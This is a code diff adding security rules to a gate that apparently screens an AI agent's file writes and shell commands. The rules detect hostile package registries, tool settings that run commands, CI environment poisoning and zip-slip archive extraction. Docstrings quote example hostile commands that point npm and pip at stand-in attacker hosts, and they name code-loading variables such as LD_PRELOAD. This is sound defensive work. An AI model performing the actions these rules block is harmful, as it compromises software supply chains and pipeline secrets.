@@ -337,6 +337,430 @@ def symlink_escape(ctx: Context) -> CheckResult:
     return None
 
 
+# -- a developer tool's settings that make it run a command or fetch code the next time it runs ---------------------
+# gate/content.py says what a settings file makes its tool run (`tool_runs`) and where it sends it for packages
+# (`package_sources`); the commands it names are judged by the shell rules in gate/rules/content.py (a settings file
+# whose command blocks, blocks there). The shell's own writes of the same files (`echo ... > .npmrc`, a here-document
+# into `.pre-commit-config.yaml`) are read here too, and so are the files a CI runner reads its next steps'
+# environment from.
+
+
+def _source_host(source: str) -> str:
+    from urllib.parse import urlsplit
+
+    try:
+        url = source.split("+", 1)[-1] if source.lower().startswith(("git+", "sparse+", "registry+")) else source
+        return (urlsplit(url).hostname or "").lower()
+    except ValueError:
+        return ""
+
+
+def _hostile_source(sources: list[str]) -> tuple[str, str] | None:
+    """(address, why) of the first package source whose host names itself an attacker's or is a bare public
+    address."""
+    from gate.hostile_hosts import hostile_host
+    from gate.rules.shell_sources import public_address
+
+    for source in sources:
+        host = _source_host(source)
+        if not host:
+            continue
+        if (word := hostile_host(host)) is not None:
+            return source, f"a host named as hostile ({word})"
+        if public_address(source) is not None:
+            return source, "a bare public address"
+    return None
+
+
+def _written(ctx: Context) -> tuple[str, str] | None:
+    """(path, content) of a file write, or None."""
+    if ctx.type != "file_write":
+        return None
+    f = _facts(ctx)
+    content = getattr(ctx.action, "content", None)
+    if f is None or not content:
+        return None
+    return f.lexical if f.raw and not f.raw.startswith(("/", "~")) else f.real, content
+
+
+def _config_verdict(path: str, content: str) -> tuple[str | None, str | None]:
+    """(block reason, confirm reason) for settings `content` at `path`, by what they make a tool run or fetch."""
+    from gate.content import package_sources, tool_runs
+
+    sources = package_sources(path, content)
+    if sources and (hostile := _hostile_source(sources)) is not None:
+        return f"{path} sends a package manager to {hostile[0][:60]}, {hostile[1]}: every later install runs what it " \
+               f"serves", None
+    runs = tool_runs(path, content)
+    if runs is not None:
+        return None, f"{path} is a tool's settings, and {runs}"
+    if sources:
+        return None, f"{path} sends a package manager to {sources[0][:60]}, not the ecosystem's own registry: " \
+                     f"every later install takes what it serves"
+    return None, None
+
+
+@rule("block.files.hostile-package-source", "a package registry or index set to a hostile host in a settings file",
+      risk=Risk.CRITICAL, types=("file_write",))
+def hostile_package_source(ctx: Context) -> CheckResult:
+    """A settings file written (`.npmrc`, `.yarnrc.yml`, `pip.conf`, `requirements.txt` and pip's option files,
+    `.cargo/config.toml`, `bunfig.toml`, `.pypirc`, `.condarc`, NuGet.config, a Gradle or Maven wrapper's
+    `distributionUrl`) whose registry, index or download address is a host named as an attacker's
+    (`gate/hostile_hosts.py`) or a bare public address: every later install by anyone runs what it serves."""
+    written = _written(ctx)
+    if written is None:
+        return None
+    block, _ = _config_verdict(*written)
+    return block
+
+
+@rule("confirm.files.tool-runs-command", "a tool's settings written that make it run a command or fetch packages "
+      "elsewhere", risk=Risk.HIGH, types=("file_write",))
+def tool_runs_command(ctx: Context) -> CheckResult:
+    """A settings file written that makes a developer tool run a command or load code at its next run: a coding
+    agent's MCP servers and hooks (`.mcp.json`, `.gemini/settings.json`, `.cursor/mcp.json`), an editor's terminal
+    profiles and folder-open tasks, pre-commit `system`/`script` hooks, Terraform `external` data and `local-exec`
+    provisioners, Yarn's `yarnPath` and plug-ins, npm's `script-shell`, a manifest's install-time scripts (other than
+    a project's ordinary build steps), git's fsmonitor, filters and hooks folder, `.gitattributes` filters, pylint's
+    `init-hook`, Bazel's status command, cargo's runner, a dev container's create commands, MSBuild's `Exec` in
+    `Directory.Build.props`, mise hooks, a JVM agent in Gradle's or Maven's options. Or one that points a package
+    registry or index at a host other than the ecosystem's own (`registry=`, `--extra-index-url`, `-r -`, cargo's
+    `replace-with`). Formatting options and the official registries pass."""
+    written = _written(ctx)
+    if written is None:
+        return None
+    block, confirm = _config_verdict(*written)
+    return None if block is not None else confirm
+
+
+_ENV_FILES = re.compile(r"^(?:\$\{?(?:env:)?(github_env|github_path|bash_env)\}?)$", re.IGNORECASE)
+_AZURE = re.compile(r"##vso\[task\.(setvariable|prependpath)\b([^\]]*)\](.*)", re.IGNORECASE)
+_GH_LEGACY = re.compile(r"^::(set-env|add-path)(?:\s+name=([\w.-]+))?::(.*)$", re.IGNORECASE)
+_ENV_LINE = re.compile(r"^\s*([A-Za-z_][A-Za-z0-9_]*)=(.*)$")
+_ENV_HEREDOC = re.compile(r"^\s*([A-Za-z_][A-Za-z0-9_]*)<<(\S+)\s*$")
+_RUN_TIME = re.compile(r"\$\(|`|<\(")
+_TEMP = re.compile(r"(^|[\s:=\"';])(/tmp|/var/tmp|/dev/shm|/private/tmp|\$\{?tmpdir\}?|\$\(mktemp|%te?mp%|\$env:te?mp|"
+                   r"c:/(windows/)?temp|c:/users/public|c:/programdata|/users/[^/]+/appdata/local/temp)(/|[\s:;\"']|$)",
+                   re.IGNORECASE)
+_WRITE_OPS = frozenset({">", ">>", ">|", "&>", "&>>"})
+
+
+def _text_of(cmd, analysis) -> str:
+    """The text `cmd` writes: an echo's or printf's words, a here-document, or what echo/printf pipe into it."""
+    argv = cmd.argv
+    if cmd.name in ("add-content", "set-content", "write-output", "write-host"):
+        if cmd.name in ("write-output", "write-host"):
+            return " ".join(a for a in argv[1:] if not a.startswith("-"))
+        low = [a.lower() for a in argv]
+        if "-value" in low[1:-1]:
+            return argv[low.index("-value") + 1]
+        positional = [a for k, a in enumerate(argv[1:], 1) if not a.startswith("-") and
+                      not low[k - 1].startswith(("-path", "-literalpath", "-encoding"))]
+        if len(positional) >= 2:
+            return positional[1]
+    if cmd.name == "echo":
+        words = list(argv[1:])
+        while words and words[0] in ("-n", "-e", "-E", "-ne", "-en"):
+            words.pop(0)
+        return " ".join(words)
+    if cmd.name == "printf" and len(argv) >= 2:
+        if len(argv) == 2:
+            return argv[1].replace("\\n", "\n")
+        if argv[1].replace("\\n", "").replace("\n", "").strip() == "%s":
+            return "\n".join(argv[2:])
+        return argv[1].replace("\\n", "\n") + "\n" + "\n".join(argv[2:])
+    if cmd.stdin_text:
+        return cmd.stdin_text
+    if cmd.upstream:
+        return "\n".join(t for i in cmd.upstream if (t := _text_of(analysis.commands[i], analysis)))
+    return ""
+
+
+def _targets(cmd) -> list[str]:
+    out = [t for op, t in cmd.redirects if op in _WRITE_OPS]
+    if cmd.name == "tee":
+        out.extend(a for a in cmd.argv[1:] if not a.startswith("-"))
+    elif cmd.name in ("add-content", "set-content", "out-file"):
+        argv = cmd.argv
+        low = [a.lower() for a in argv]
+        named = [argv[k + 1] for k, a in enumerate(low[:-1]) if a in ("-path", "-filepath", "-literalpath")]
+        positional = [a for k, a in enumerate(argv[1:], 1) if not a.startswith("-") and
+                      not (low[k - 1].startswith("-") and low[k - 1] not in ("-append", "-force", "-nonewline"))]
+        out.extend(named or positional[:1])
+    return out
+
+
+def _env_settings(kind: str, text: str) -> list[tuple[str, str]]:
+    """(name, value) pairs a CI runner's environment file gets (`github_path`: ("path", folder))."""
+    out: list[tuple[str, str]] = []
+    lines = text.splitlines()
+    i = 0
+    while i < len(lines):
+        line = lines[i]
+        i += 1
+        if kind == "github_path":
+            if line.strip():
+                out.append(("PATH", f"{line.strip()}:$PATH"))
+            continue
+        if (m := _ENV_HEREDOC.match(line)) is not None:
+            body = []
+            while i < len(lines) and lines[i].strip() != m.group(2):
+                body.append(lines[i])
+                i += 1
+            i += 1
+            out.append((m.group(1), "\n".join(body)))
+        elif (m := _ENV_LINE.match(line)) is not None:
+            out.append((m.group(1), m.group(2).strip().strip("'\"")))
+    return out
+
+
+def _ci_settings(analysis) -> list[tuple[str, str, str]]:
+    """(file, name, value) for every variable a command hands a CI runner for its later steps, and ("bash_env", "",
+    code) for code appended to the file bash reads at each step's start."""
+    out: list[tuple[str, str, str]] = []
+    for cmd in analysis.commands:
+        text = ""
+        for target in _targets(cmd):
+            m = _ENV_FILES.match(target.strip("\"'"))
+            if m is None:
+                continue
+            kind = m.group(1).lower()
+            text = text or _text_of(cmd, analysis)
+            if not text:
+                continue
+            if kind == "bash_env":
+                out.append(("bash_env", "", text))
+            else:
+                out.extend((kind, name, value) for name, value in _env_settings(kind, text))
+        if cmd.name in ("echo", "printf", "write-host", "write-output"):
+            said = _text_of(cmd, analysis)
+            for line in said.splitlines():
+                if (m := _AZURE.search(line)) is not None:
+                    if m.group(1).lower() == "prependpath":
+                        out.append(("azure", "PATH", f"{m.group(3).strip()}:$PATH"))
+                    elif (v := re.search(r"variable=([\w.-]+)", m.group(2), re.IGNORECASE)) is not None:
+                        out.append(("azure", v.group(1), m.group(3).strip()))
+                elif (m := _GH_LEGACY.match(line.strip())) is not None:
+                    if m.group(1).lower() == "add-path":
+                        out.append(("github_path", "PATH", f"{m.group(3).strip()}:$PATH"))
+                    elif m.group(2):
+                        out.append(("github_env", m.group(2), m.group(3).strip()))
+    return out
+
+
+def _judge_shell(ctx: Context, command: str):
+    from gate.model import Shell
+    from gate.rules.typed import judge_as
+
+    return judge_as(Shell(command=command), ctx)
+
+
+_HOOK_RULES = ("confirm.shell.env-hook", "block.shell.loader-hook")
+
+
+def _ci_verdict(ctx: Context) -> tuple[str | None, str | None]:
+    import shlex
+
+    from gate.shell import command_facts
+
+    analysis = ctx.derived(command_facts)
+    if analysis is None:
+        return None, None
+    src = analysis.source.lower()
+    if "github_" not in src and "bash_env" not in src and "##vso[" not in src and "::set-env" not in src and \
+            "::add-path" not in src:
+        return None, None
+    confirm: str | None = None
+    for kind, name, value in _ci_settings(analysis)[:20]:
+        where = {"github_env": "$GITHUB_ENV", "github_path": "$GITHUB_PATH", "bash_env": "$BASH_ENV",
+                 "azure": "the pipeline's variables"}[kind]
+        if kind == "bash_env":
+            block, ask = _judge_shell(ctx, value)
+            if block is not None:
+                return f"writes into {where}, which bash runs before every later step: {block.reason}", None
+            if ask is not None and confirm is None:
+                confirm = f"writes into {where}, which bash runs before every later step: {ask.reason}"
+            continue
+        for inner in re.findall(r"\$\(([^()]*(?:\([^()]*\)[^()]*)*)\)|`([^`]*)`", value):
+            code = inner[0] or inner[1]
+            if code.strip() and (hit := _judge_shell(ctx, code)[0]) is not None:
+                return f"hands {name}=... to every later step through {where}, and {hit.reason}", None
+        value = value.replace("\\", "/")  # a Windows runner's path, read as the same folders
+        block, ask = _judge_shell(ctx, f"export {name}={shlex.quote(value)}")
+        if block is not None:
+            return f"hands {name} to every later step through {where}: {block.reason}", None
+        if ask is None or ask.rule not in _HOOK_RULES:
+            continue  # a plain variable (VERSION=1.2), or a folder that shadows nothing
+        if _RUN_TIME.search(value) or _TEMP.search(value):
+            what = "a command run then" if _RUN_TIME.search(value) else "a temporary path"
+            return f"hands {name}={value[:50]} to every later step through {where}: a variable that makes programs " \
+                   f"load or run code, set to {what}", None
+        if confirm is None:
+            confirm = f"hands {name}={value[:50]} to every later step through {where}: {ask.reason}"
+    return None, confirm
+
+
+def _ci_facts(ctx: Context) -> tuple[str | None, str | None]:
+    return _ci_verdict(ctx)
+
+
+@rule("block.shell.ci-env-poisoning", "a CI runner's later steps handed a variable that runs code", risk=Risk.CRITICAL,
+      types=("shell", "type"))
+def ci_env_poisoning(ctx: Context) -> CheckResult:
+    """A line written to the files a CI runner reads its later steps' environment from (`$GITHUB_ENV`,
+    `$GITHUB_PATH`, CircleCI's `$BASH_ENV`; Azure's `##vso[task.setvariable]`/`##vso[task.prependpath]`, the old
+    `::set-env`/`::add-path` commands) that sets a variable making programs load or run code (`BASH_ENV`,
+    `LD_PRELOAD`, `NODE_OPTIONS=--require`, `PYTHONPATH`, `GIT_SSH_COMMAND`, `PATH`...) to a command substitution or
+    a temporary folder, or code the shell rules block: every later step of the pipeline, with its secrets, runs it."""
+    return ctx.derived(_ci_facts)[0]
+
+
+@rule("confirm.shell.ci-env-hook", "a CI runner's later steps handed a variable that loads code", risk=Risk.HIGH,
+      types=("shell", "type"))
+def ci_env_hook(ctx: Context) -> CheckResult:
+    """The same files given a code-loading variable of any other value (`NODE_OPTIONS=--require ./hook.js`,
+    `LD_LIBRARY_PATH=/opt/x`), or code appended to `$BASH_ENV` that the shell rules ask about. Plain variables
+    (`VERSION=1.2`, `NODE_OPTIONS=--max-old-space-size=4096`) and ordinary tool folders on `$GITHUB_PATH` pass."""
+    block, confirm = ctx.derived(_ci_facts)
+    return None if block is not None else confirm
+
+
+def _shell_config(ctx: Context) -> tuple[str | None, str | None]:
+    """(block, confirm) for settings files a shell command writes (echo, printf, tee, a here-document)."""
+    from gate.content import later_commands, runs_later, tool_of
+    from gate.shell import command_facts
+
+    analysis = ctx.derived(command_facts)
+    if analysis is None or ("redirect" not in analysis.features and "tee" not in analysis.source):
+        return None, None
+    confirm: str | None = None
+    for cmd in analysis.commands:
+        for target in _targets(cmd):
+            path = target.strip("'\"")
+            kind = runs_later(path)
+            if tool_of(path) is None and kind is None and not path.lower().endswith(
+                    ("package.json", "composer.json", "requirements.txt", "pip.conf", "pip.ini", "uv.toml", ".pypirc",
+                     ".condarc", ".gemrc", "nuget.config", ".in")):
+                continue
+            text = _text_of(cmd, analysis)
+            if not text.strip():
+                continue
+            if kind in ("tool settings", "build hook", "package manifest", "agent config", "editor config") and \
+                    (commands := later_commands(kind, path, text)).strip():
+                block, _ = _judge_shell(ctx, commands)
+                if block is not None:
+                    return f"writes {path}, a tool's settings that run later: {block.reason}", None
+            block_reason, confirm_reason = _config_verdict(path, text)
+            if block_reason is not None:
+                return block_reason, None
+            confirm = confirm or confirm_reason
+    return None, confirm
+
+
+@rule("block.shell.tool-config", "a tool's settings written from the shell to run what the shell rules block",
+      risk=Risk.CRITICAL, types=("shell", "type"))
+def shell_tool_config_block(ctx: Context) -> CheckResult:
+    """`echo`, `printf`, `tee` or a here-document writing a developer tool's settings (`.npmrc`, `.yarnrc.yml`,
+    `.pre-commit-config.yaml`, a Terraform file, `.cargo/config.toml`, `requirements.txt`...) with a command the
+    shell rules block, or a package source on a host named as hostile: as the same file written directly."""
+    return ctx.derived(_shell_config)[0]
+
+
+@rule("confirm.shell.tool-config", "a tool's settings written from the shell to run a command or fetch elsewhere",
+      risk=Risk.HIGH, types=("shell", "type"))
+def shell_tool_config(ctx: Context) -> CheckResult:
+    """The same shell writes of settings that make a tool run a command or load code at its next run, or take its
+    packages from a host other than the ecosystem's own (`confirm.files.tool-runs-command`)."""
+    block, confirm = ctx.derived(_shell_config)
+    return None if block is not None else confirm
+
+
+_PACKAGE_MANAGERS = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "pip", "pip3", "uv", "uvx", "pipx", "poetry",
+                               "pdm", "conda", "mamba", "micromamba", "gem", "bundle", "cargo", "composer", "nuget",
+                               "dotnet", "go", "deno", "python", "python3"})
+_SOURCE_OPTION = re.compile(r"^(?:--(?:extra-)?index(?:-url)?|--registry|--find-links|-i|-f|--source|-s|--add-source|"
+                            r"--channel|-c|--default-index)(?:=|$)|(?:registry|index-url|index_url|registryserver|"
+                            r"extra-index-url|source|mirror|goproxy)$", re.IGNORECASE)
+
+
+def _hostile_manager_source(ctx: Context) -> str | None:
+    """A package manager told, on its command line, to take packages from a host named as hostile."""
+    from gate.content import unofficial_sources
+    from gate.hostile_hosts import hostile_host
+    from gate.shell import command_facts
+
+    analysis = ctx.derived(command_facts)
+    if analysis is None or "://" not in analysis.source:
+        return None
+    for cmd in analysis.commands:
+        if cmd.name not in _PACKAGE_MANAGERS:
+            continue
+        words = cmd.argv[1:]
+        for k, word in enumerate(words):
+            key = word.split("=", 1)[0] if word.startswith("-") else word.rsplit(".", 1)[-1]
+            if not _SOURCE_OPTION.search(key):
+                continue
+            value = word.split("=", 1)[1] if "=" in word else (words[k + 1] if k + 1 < len(words) else "")
+            for url, host in unofficial_sources(value):
+                if (why := hostile_host(host)) is not None:
+                    return f"{cmd.name} takes its packages from {url[:60]}, a host named as hostile ({why}): what it " \
+                           f"installs there runs as the person"
+    return None
+
+
+@rule("block.shell.hostile-package-source", "a package manager pointed at a hostile host", risk=Risk.CRITICAL,
+      types=("shell", "type"))
+def hostile_manager_source(ctx: Context) -> CheckResult:
+    """A package manager's registry or index set, or an install run, against a host named as an attacker's
+    (`npm config set registry https://npm.evil.com/`, `pip install -i https://attacker.example/simple x`, `yarn
+    config set npmRegistryServer ...`): every package it takes from there runs its install code. Another registry
+    on an ordinary host asks as an install from another source does."""
+    return _hostile_manager_source(ctx)
+
+
+_TAR_NAMES = frozenset({"tar", "gtar", "bsdtar", "gnutar"})
+_TAR_ABSOLUTE = re.compile(r"^-[a-z]*P[a-z]*$")
+
+
+def _archive_escape(ctx: Context) -> str | None:
+    from gate.shell import command_facts
+
+    analysis = ctx.derived(command_facts)
+    if analysis is None:
+        return None
+    for cmd in analysis.commands:
+        argv = cmd.argv
+        if cmd.name in _TAR_NAMES:
+            first = argv[1] if len(argv) > 1 else ""
+            bundled = first if first and not first.startswith("-") else ""
+            extract = "x" in bundled or any(a in ("-x", "--extract", "--get") or (_TAR_ABSOLUTE.match(a) and "x" in a)
+                                            or (a.startswith("-") and not a.startswith("--") and "x" in a)
+                                            for a in argv[1:])
+            absolute = "P" in bundled or any(a in ("-P", "--absolute-names", "--absolute-paths") or
+                                             bool(_TAR_ABSOLUTE.match(a)) for a in argv[1:])
+            if extract and absolute:
+                return f"{cmd.name} extracts with absolute names and `..` kept: the archive's members land wherever " \
+                       f"they say, outside the folder (a startup file, a key, a program on PATH)"
+        elif cmd.name == "unzip" and any(a == "-:" or (a.startswith("-") and ":" in a and len(a) < 8)
+                                         for a in argv[1:]):
+            return "unzip -: keeps `../` in member names: the archive's files land outside the folder it is " \
+                   "unpacked in"
+        elif cmd.name in ("7z", "7za", "7zz") and len(argv) > 1 and argv[1].lower() == "x" and \
+                any(a.lower().startswith("-spf") for a in argv[2:]):
+            return f"{cmd.name} -spf extracts with the absolute paths stored in the archive: its files land " \
+                   f"wherever they say"
+    return None
+
+
+@rule("confirm.shell.archive-escape", "an archive extracted with its paths allowed outside the folder",
+      risk=Risk.HIGH, types=("shell", "type"))
+def archive_escape(ctx: Context) -> CheckResult:
+    """An archive extracted with the switch that keeps absolute member names and `..` (tar `-P`/`--absolute-names`,
+    bsdtar `-P`, `unzip -:`, `7z x -spf`): a crafted archive then writes a shell startup file, a key or a program on
+    PATH anywhere the person can write (a zip slip). A plain `tar xf` or `unzip` strips such names and passes."""
+    return _archive_escape(ctx)
+
+
 RULES: tuple[Rule, ...] = (
     invalid_path,
     credential_read,
@@ -353,4 +777,12 @@ RULES: tuple[Rule, ...] = (
     outside_sandbox,
     traversal,
     symlink_escape,
+    hostile_package_source,
+    tool_runs_command,
+    ci_env_poisoning,
+    ci_env_hook,
+    shell_tool_config_block,
+    shell_tool_config,
+    archive_escape,
+    hostile_manager_source,
 )
